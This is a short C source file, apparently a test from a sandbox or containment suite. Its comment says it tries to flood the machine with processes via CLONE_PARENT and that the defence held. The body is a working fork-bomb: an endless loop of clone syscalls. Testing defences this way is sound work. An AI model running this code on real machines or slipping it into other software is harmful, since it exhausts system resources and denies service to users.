/* Tries: to fill the machine with children of its own maker (CLONE_PARENT).
   Held: the report says that it makes processes without end; none is left a second later. */
#include "attack.h"
#include <sched.h>
#include <signal.h>

int main(void) {
    for (;;)
        syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
}
